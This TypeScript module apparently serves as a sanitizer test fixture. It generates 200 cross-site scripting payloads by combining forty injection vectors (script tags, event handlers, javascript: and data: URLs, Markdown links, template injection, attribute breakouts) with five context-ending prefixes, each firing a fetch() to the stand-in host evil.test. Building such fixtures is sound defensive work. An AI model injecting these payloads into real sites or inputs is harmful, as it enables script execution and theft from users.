/** What a payload does where it runs: a flag, a dialog, a line on the console, a request. */
export const MARKER = "xss-marker";
export const EVIL_HOST = "evil.test";
const RUN = `window.__xss=1;console.log('${MARKER}');alert(1);fetch('http://${EVIL_HOST}/')`;
const CODED = [...RUN].map((character) => `&#${character.charCodeAt(0)};`).join("");

/** Ways in which a text becomes code, in HTML, in attributes, in URLs, in Markdown, in templates. */
const VECTORS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<math><mtext><style><img src=x onerror="${RUN}"></style></mtext></math>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<a href="javascript:${RUN}">here</a>`,
  `<form action="http://${EVIL_HOST}/"><button>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=http://${EVIL_HOST}/">`,
  `<base href="http://${EVIL_HOST}/">`,
  `<link rel="stylesheet" href="http://${EVIL_HOST}/x.css">`,
  `<style>@import url(http://${EVIL_HOST}/x.css); body { background: url(http://${EVIL_HOST}/x.png) }</style>`,
  `<img src="http://${EVIL_HOST}/x.png">`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` \tjava\nscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${btoa(`<script>${RUN}</script>`)}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="${RUN}"/>`,
  `http://${EVIL_HOST}/x.png`,
  `//${EVIL_HOST}/x.png`,
  `vbscript:${RUN}`,
  `[here](javascript:${RUN})`,
  `![here](http://${EVIL_HOST}/x.png)`,
  `<http://${EVIL_HOST}/> [x]: javascript:${RUN}`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${CODED}' autofocus onfocus='${CODED}' x='`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror="${CODED}">`,
];

/** What may stand before a payload: what ends an attribute, a comment, a text of another kind, and nothing. */
const ENDS = ["", '">', "'>", "--></textarea></title></style></pre>", "\u2028\\u003c/script>]]>"];

/** 200 texts, none of which may do anything. */
export const PAYLOADS: readonly string[] = ENDS.flatMap((end) => VECTORS.map((vector) => `${end}${vector}`));
